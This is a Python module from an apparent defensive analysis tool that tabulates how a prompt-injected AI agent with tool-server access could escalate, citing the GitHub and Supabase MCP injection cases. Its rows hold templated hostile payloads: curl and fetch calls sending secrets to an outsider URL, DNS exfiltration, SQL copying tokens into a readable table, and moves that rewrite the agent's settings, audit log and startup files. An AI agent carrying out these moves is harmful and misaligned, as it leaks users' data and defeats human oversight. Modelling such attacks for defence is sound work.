"""The table of moves: what a call needs, what an attacker gains by it, and how it is spelled.

Each row speaks of capabilities and parameter kinds, never of a server's tools. Beyond the facts in
`needs` every call needs a hand, somebody who makes it: text that steers the session, or a stolen
grant; only what an agent reads of its own accord needs none. `docs/escalation.md` shows the table.
"""

from __future__ import annotations

from typing import NamedTuple

from trebuchet.analysis.escalation.row import (
    CREDENTIAL,
    FOUND,
    GATEWAY_DOWN,
    GUARD_DOWN,
    HOST,
    KNOWS,
    OTHERS,
    PLANTED,
    PRIVATE,
    SANDBOX,
    SECRET,
    TAINTED,
    Files,
    Row,
    Runs,
    Several,
    form,
    goal_fact,
)
from trebuchet.analysis.escalation.spellings import (
    ANSWER,
    CHANGE_MARKS,
    CHANGED,
    COMMANDS,
    DROPS,
    SECRET_FILES,
    TOKENS,
    UPDATES,
    of_files,
    plain,
    sending,
)
from trebuchet.model.escalation import Fact, Goal, Start
from trebuchet.model.vocabulary import Capability, ParameterKind, Severity

C = Capability
K = ParameterKind


_DESIGN = "docs/glossary.md"
_GITHUB = "https://invariantlabs.ai/blog/mcp-github-vulnerability"
_SUPABASE = "https://generalanalysis.com/blog/supabase-mcp-blog"
_TRIFECTA = "https://simonwillison.net/2025/Jun/16/the-lethal-trifecta/"

_CARRIED: tuple[tuple[str, Fact, str, Severity, str], ...] = (
    ("private", PRIVATE, "{private.text}", Severity.HIGH, "private data"),
    ("others", OTHERS, "{private.text}", Severity.HIGH, "other people's data"),
    ("secret", SECRET, "{secret.text}", Severity.CRITICAL, "a secret"),
)
"""What can be carried out: word, fact, the text that stands for it, how bad, in words."""


def _carrying() -> tuple[Row, ...]:
    """The rows by which data leaves, each for every class of data."""
    rows: list[Row] = []
    for word, fact, text, severity, thing in _CARRIED:
        out = (goal_fact(Goal.EXFILTRATED),)
        rows += [
            Row(
                f"send-{word}",
                (C.SEND_EXTERNAL,),
                (fact,),
                out,
                sending(text),
                severity,
                f"sends {thing} to the outsider",
                "the caller chooses where the bytes go; a fetch with a query is a sending",
                _TRIFECTA,
                marks=("outsider.", "lapsed."),
            ),
            Row(
                f"share-{word}",
                (C.WRITE_SHARED,),
                (fact,),
                (*out, PLANTED),
                (
                    form("content", {"content": text}),
                    form("content in a file", {"path": "{own.path}", "content": text}),
                    form("for anyone", {"audience": "public"}, {"content": text}),
                    plain(K.CONTENT),
                ),
                severity,
                f"writes {thing} where outsiders read",
                "outsiders are in the audience of the place, whoever the receiver is",
                _GITHUB,
                marks=("outsider.", "private.", "secret."),
            ),
            Row(
                f"answer-{word}",
                (C.EXECUTE, C.OVERWRITE, C.WRITE_INTERNAL),
                (fact,),
                out,
                (
                    form(
                        "answer to a ticket",
                        {"statement": ANSWER.replace("@", text)},
                    ),
                    form(
                        "copied within the database",
                        {
                            "statement": "INSERT INTO ticket_messages (ticket_id, body) "
                            "SELECT 7, token FROM integration_tokens"
                        },
                    ),
                ),
                severity,
                f"writes {thing} into a table that outsiders read",
                "rows that outsiders wrote are often rows that outsiders read",
                _SUPABASE,
                marks=("private.", "secret."),
                beside=(C.INGEST_UNTRUSTED,),
                must_take=(K.STATEMENT,),
            ),
            Row(
                f"run-{word}",
                (C.EXECUTE,),
                (fact,),
                out,
                (
                    form("command", {"command": f"curl -d '{text}' {{outsider.url}}"}),
                    form("asked as a name", {"command": "nslookup part-1.{outsider.domain}"}),
                    form("code", {"code": f"fetch('{{outsider.url}}?note={text}')"}),
                ),
                severity,
                f"runs code that carries {thing} to the outsider",
                "a sandbox that reaches the network, or only asks for names, lets data out",
                _DESIGN,
                marks=("outsider.",),
                runs=Runs.ELSEWHERE,
            ),
            Row(
                f"type-{word}",
                (C.DRIVE_UI,),
                (fact,),
                out,
                (
                    form("typed in", {"content": text}),
                    form("opened", {"url": f"{{outsider.url}}?note={text}"}),
                    form("run in the page", {"code": f"send('{text}')"}),
                ),
                severity,
                f"enters {thing} on a page of the outsider's choice",
                "what a browser does is not visible in the call; a form can go anywhere",
                _DESIGN,
                marks=("outsider.", "private.", "secret."),
            ),
            Row(
                f"tell-{word}",
                (),
                (fact,),
                out,
                (
                    form("as content", {"content": text}),
                    form("as a search", {"search": text}),
                    form("as a statement", {"statement": text}),
                    form("as a target", {"target": text}),
                ),
                severity,
                f"hands {thing} to the hostile server",
                "whoever runs the server sees every argument",
                _DESIGN,
                starts=(Start.HOSTILE_SERVER,),
            ),
        ]
    return tuple(rows)


_READING: tuple[Row, ...] = (
    Row(
        "read-untrusted",
        (C.INGEST_UNTRUSTED,),
        (),
        (TAINTED, KNOWS),
        (
            form("public page", {"url": "{public.url}"}),
            form("outsider's page", {"url": "{outsider.url}"}),
            plain(K.URL),
            form("ticket", {"statement": "SELECT body FROM ticket_messages WHERE ticket_id = 7"}),
        ),
        None,
        "reads what an outsider wrote",
        "the result may hold outsiders' text, and an agent takes orders from any text",
        _TRIFECTA,
        hand=False,
        starts=(Start.OUTSIDER,),
    ),
    Row(
        "read-planted",
        (C.INGEST_UNTRUSTED, C.READ_PRIVATE),
        (PLANTED,),
        (TAINTED, KNOWS),
        (plain(K.URL),),
        None,
        "reads what was planted there",
        "a place that was written to taints whoever reads it later",
        _DESIGN,
        hand=False,
        starts=(Start.HOSTILE_SERVER, Start.CARELESS_AGENT, Start.STOLEN_GRANT),
    ),
    Row(
        "enumerate",
        (C.ENUMERATE,),
        (),
        (KNOWS,),
        (plain(),),
        None,
        "lists what is there, with its ids",
        "an id that nobody can guess is found in a list",
        _DESIGN,
    ),
    Row(
        "read-private",
        (C.READ_PRIVATE,),
        (),
        (PRIVATE, KNOWS),
        (
            plain(),
            form("private place", {"target": "{other.item}"}),
            form("salaries", {"statement": "SELECT name, salary FROM staff"}),
        ),
        None,
        "reads private data into the session",
        "what is private to the owner is not the outsider's to know",
        _TRIFECTA,
    ),
    Row(
        "read-others",
        (C.READ_PRIVATE,),
        (),
        (OTHERS, KNOWS, goal_fact(Goal.CROSSED_TENANT)),
        (
            form("another tenant", {"tenant": "{other.tenant}"}),
            form("another person", {"subject": "{other.user}"}),
            form("another person's address", {"subject": "{other.email}"}),
            form("tenants in a list", {"tenant": Several(("{own.tenant}", "{other.tenant}"))}),
        ),
        Severity.HIGH,
        "reads another tenant's or person's data into the session",
        "the argument says whose data it is, and any value can stand there",
        _DESIGN,
        marks=("other.tenant", "other.user", "other.email", "other.phone"),
    ),
    Row(
        "read-secret",
        (C.READ_SECRET,),
        (),
        (SECRET, FOUND),
        (plain(),),
        None,
        "reads a secret into the session",
        "a credential that some tool accepts opens that tool",
        _DESIGN,
    ),
    Row(
        "read-secret-file",
        (C.READ_PRIVATE, C.READ_PUBLIC),
        (),
        (SECRET, FOUND),
        SECRET_FILES,
        None,
        "reads a file with secrets into the session",
        "keys lie in files, and a tool that reads files reads them",
        _DESIGN,
        marks=("secret.",),
        without=(C.ENUMERATE,),
        verbs=("read", "content", "contents", "open", "view", "download", "cat", "load", "export"),
        must_take=(K.PATH,),
        files=Files.NAMED,
    ),
    Row(
        "read-token-table",
        (C.READ_PRIVATE,),
        (),
        (SECRET, FOUND),
        TOKENS,
        None,
        "reads a table of tokens into the session",
        "a statement can ask for any table that the login may read",
        _SUPABASE,
        marks=("secret.",),
        must_take=(K.STATEMENT,),
    ),
)

_CHANGING: tuple[Row, ...] = (
    Row(
        "destroy",
        (C.DESTROY,),
        (),
        (goal_fact(Goal.DESTROYED),),
        CHANGED,
        None,
        "destroys what is not the agent's",
        "what is gone is gone, or hard to bring back",
        _DESIGN,
        marks=CHANGE_MARKS,
    ),
    Row(
        "destroy-by-statement",
        (C.DESTROY, C.OVERWRITE, C.EXECUTE),
        (),
        (goal_fact(Goal.DESTROYED),),
        DROPS,
        None,
        "drops a table",
        "a tool that takes any statement takes one that deletes",
        _DESIGN,
        marks=("other.",),
        must_take=(K.STATEMENT,),
    ),
    Row(
        "overwrite",
        (C.OVERWRITE,),
        (),
        (goal_fact(Goal.CORRUPTED),),
        (*CHANGED, *UPDATES),
        None,
        "writes over what is not the agent's",
        "what was there before is lost, and what is there now is believed",
        _DESIGN,
        marks=CHANGE_MARKS,
    ),
    Row(
        "control",
        (C.CONTROL,),
        (),
        (goal_fact(Goal.CORRUPTED),),
        (*CHANGED, *UPDATES),
        None,
        "starts, stops or releases something",
        "what runs is changed though no record is",
        _DESIGN,
        marks=CHANGE_MARKS,
    ),
    Row(
        "execute-host",
        (C.EXECUTE,),
        (),
        (HOST, goal_fact(Goal.EXECUTED)),
        (*COMMANDS, plain(K.COMMAND, K.CODE)),
        Severity.CRITICAL,
        "runs the attacker's code on the machine of the agent",
        "code on the host calls what it likes, and no gateway sees it",
        _DESIGN,
        marks=("outsider.", "secret.", "system.", "startup.", "agent."),
        runs=Runs.HOST,
    ),
    Row(
        "execute-elsewhere",
        (C.EXECUTE,),
        (),
        (SANDBOX, goal_fact(Goal.EXECUTED)),
        (*COMMANDS, *DROPS[:1], plain(K.COMMAND, K.CODE, K.STATEMENT)),
        Severity.HIGH,
        "runs the attacker's code in a sandbox or on another machine",
        "what it can do ends where its sandbox ends, as far as anybody knows",
        _DESIGN,
        marks=("outsider.", "secret.", "system."),
        runs=Runs.ELSEWHERE,
    ),
    Row(
        "install-host",
        (C.INSTALL,),
        (),
        (HOST, goal_fact(Goal.EXECUTED)),
        (form("outsider's package", {"target": "{outsider.package}"}), plain(K.TARGET)),
        Severity.CRITICAL,
        "installs the outsider's program on the machine of the agent",
        "what is installed runs, at once or at the next start",
        _DESIGN,
        marks=("outsider.",),
        runs=Runs.HOST,
    ),
    Row(
        "install-elsewhere",
        (C.INSTALL,),
        (),
        (SANDBOX, goal_fact(Goal.EXECUTED)),
        (form("outsider's package", {"target": "{outsider.package}"}), plain(K.TARGET)),
        Severity.HIGH,
        "installs the outsider's program on another machine",
        "what is installed runs, at once or at the next start",
        _DESIGN,
        marks=("outsider.",),
        runs=Runs.ELSEWHERE,
    ),
)

_TAKING: tuple[Row, ...] = (
    Row(
        "pay",
        (C.PAY,),
        (),
        (goal_fact(Goal.PAID),),
        (
            form("to the outsider", {"payee": "{outsider.payee}"}, {"amount": "{own.amount}"}),
            form("ten times the cap", {"amount": "{cap.amount*10}"}),
            form("just below the cap", {"amount": "{cap.amount-1}"}),
            form("as a text", {"amount": Several(("{cap.amount*10}",))}),
            form("somebody else's", {"target": "{other.item}"}, without=(K.PAYEE, K.AMOUNT)),
            plain(K.PAYEE, K.AMOUNT, K.TARGET),
        ),
        Severity.CRITICAL,
        "pays the outsider, or more than honest work does",
        "value leaves and does not come back",
        _DESIGN,
        marks=("outsider.", "cap.", "other."),
    ),
    Row(
        "spend",
        (C.SPEND,),
        (),
        (goal_fact(Goal.SPENT),),
        (
            form("ten times the cap", {"amount": "{cap.amount*10}"}),
            form("just below the cap", {"amount": "{cap.amount-1}"}),
            plain(K.AMOUNT),
        ),
        Severity.HIGH,
        "uses up what is paid for by the call",
        "each call costs, and nobody asked for it",
        _DESIGN,
        marks=("outsider.", "cap."),
    ),
    Row(
        "grant",
        (C.GRANT_PERMISSION,),
        (),
        (goal_fact(Goal.GRANTED),),
        (
            form("outsider", {"subject": "{outsider.user}"}, {"role": "admin"}),
            form("outsider's address", {"subject": "{outsider.email}"}, {"role": "admin"}),
            form("by mail", {"recipient": "{outsider.email}"}, {"role": "admin"}),
            form("for anyone", {"audience": "anyone"}),
            form("as an administrator", {"role": "admin"}),
            plain(K.SUBJECT, K.RECIPIENT, K.AUDIENCE, K.ROLE),
        ),
        Severity.CRITICAL,
        "gives an outsider a right",
        "the right stays when the session is over",
        _DESIGN,
        marks=("outsider.",),
    ),
    Row(
        "identity",
        (C.MODIFY_IDENTITY,),
        (),
        (goal_fact(Goal.IMPERSONATED), CREDENTIAL),
        (
            form("outsider", {"subject": "{outsider.user}"}),
            form("outsider's address", {"subject": "{outsider.email}"}),
            form("outsider's key", {"secret": "{outsider.key}"}, without=(K.SUBJECT,)),
            form("somebody else", {"subject": "{other.user}"}),
            plain(K.SUBJECT),
        ),
        Severity.CRITICAL,
        "makes or changes an identity",
        "whoever has the new login or key is somebody else from now on",
        _DESIGN,
        marks=("outsider.", "other."),
    ),
    Row(
        "use-found-key",
        (),
        (FOUND,),
        (goal_fact(Goal.IMPERSONATED),),
        (form("found key", {"secret": "{secret.text}"}),),
        Severity.CRITICAL,
        "takes a secret that was found elsewhere, and opens what it opens",
        "a credential that some tool accepts opens what its owner may open",
        _DESIGN,
        marks=("secret.",),
    ),
    Row(
        "delegate",
        (C.DELEGATE,),
        (),
        (goal_fact(Goal.IMPERSONATED),),
        (form("orders", {"content": "{untrusted.text}"}), plain(K.CONTENT)),
        Severity.HIGH,
        "has another agent act, with its own rights",
        "the other agent takes the words for its owner's",
        _DESIGN,
    ),
    Row(
        "physical",
        (C.PHYSICAL,),
        (),
        (goal_fact(Goal.PHYSICAL),),
        (form("target", {"target": "{other.item}"}), plain(K.TARGET)),
        Severity.CRITICAL,
        "moves something in a house",
        "a door that was open cannot be undone by a backup",
        _DESIGN,
    ),
)

_STAYING: tuple[Row, ...] = (
    Row(
        "guard",
        (C.MODIFY_GUARD,),
        (),
        (goal_fact(Goal.HIDDEN_FROM_AUDIT), GUARD_DOWN),
        (plain(),),
        Severity.HIGH,
        "takes down a guard of its server",
        "logs, alerts and protections are what the rest is noticed by",
        _DESIGN,
    ),
    Row(
        "settings",
        (C.OVERWRITE, C.WRITE_INTERNAL),
        (),
        (GATEWAY_DOWN,),
        of_files("{agent.settings}"),
        None,
        "rewrites the agent's own settings",
        "what the agent may do and which gateway it asks stands in a file of its machine",
        _DESIGN,
        marks=("agent.settings",),
        must_take=(K.PATH, K.CONTENT),
        files=Files.MACHINE,
    ),
    Row(
        "log",
        (C.OVERWRITE, C.WRITE_INTERNAL, C.DESTROY),
        (),
        (goal_fact(Goal.HIDDEN_FROM_AUDIT),),
        of_files("{audit.log}"),
        Severity.HIGH,
        "writes over the log of the gateway",
        "what is not in the log did not happen",
        _DESIGN,
        marks=("audit.",),
        must_take=(K.PATH,),
        files=Files.MACHINE,
    ),
    Row(
        "startup",
        (C.OVERWRITE, C.WRITE_INTERNAL),
        (),
        (goal_fact(Goal.PERSISTED),),
        of_files("{startup.path}"),
        Severity.CRITICAL,
        "writes what the machine runs at its next start",
        "a file that is run at login is code on the host from the next login on",
        _DESIGN,
        marks=("startup.",),
        must_take=(K.PATH, K.CONTENT),
        files=Files.MACHINE,
    ),
    Row(
        "persist",
        (C.PERSIST,),
        (),
        (goal_fact(Goal.PERSISTED), PLANTED),
        (
            form("outsider's address", {"url": "{outsider.url}"}, {"content": "{untrusted.text}"}),
            form("orders", {"content": "{untrusted.text}"}, without=(K.URL,)),
            plain(K.URL, K.CONTENT),
        ),
        Severity.HIGH,
        "leaves something that works on after the session",
        "memory, rules, schedules and webhooks are there tomorrow",
        _DESIGN,
    ),
    Row(
        "plant",
        (C.WRITE_INTERNAL,),
        (),
        (PLANTED,),
        (form("orders", {"content": "{untrusted.text}"}), plain(K.CONTENT)),
        None,
        "leaves text that is read later",
        "whoever reads it later is steered by it",
        _DESIGN,
        starts=(Start.HOSTILE_SERVER, Start.CARELESS_AGENT, Start.STOLEN_GRANT),
    ),
)

ROWS: tuple[Row, ...] = (*_READING, *_carrying(), *_CHANGING, *_TAKING, *_STAYING)
"""Everything that a call can do for an attacker."""


class Consequence(NamedTuple):
    """What follows from facts without any call."""

    id: str
    needs: tuple[Fact, ...]
    gives: tuple[Fact, ...]
    severity: Severity
    sentence: str
    reason: str


CONSEQUENCES: tuple[Consequence, ...] = (
    Consequence(
        "past-the-gateway",
        (HOST,),
        (
            SECRET,
            PRIVATE,
            FOUND,
            GATEWAY_DOWN,
            goal_fact(Goal.EXFILTRATED),
            goal_fact(Goal.DESTROYED),
            goal_fact(Goal.CORRUPTED),
            goal_fact(Goal.IMPERSONATED),
            goal_fact(Goal.PERSISTED),
            goal_fact(Goal.HIDDEN_FROM_AUDIT),
        ),
        Severity.CRITICAL,
        "code on the host reads, sends and deletes what the agent's user can, past the gateway",
        "a gateway sees tool calls, and code on the host needs none",
    ),
)
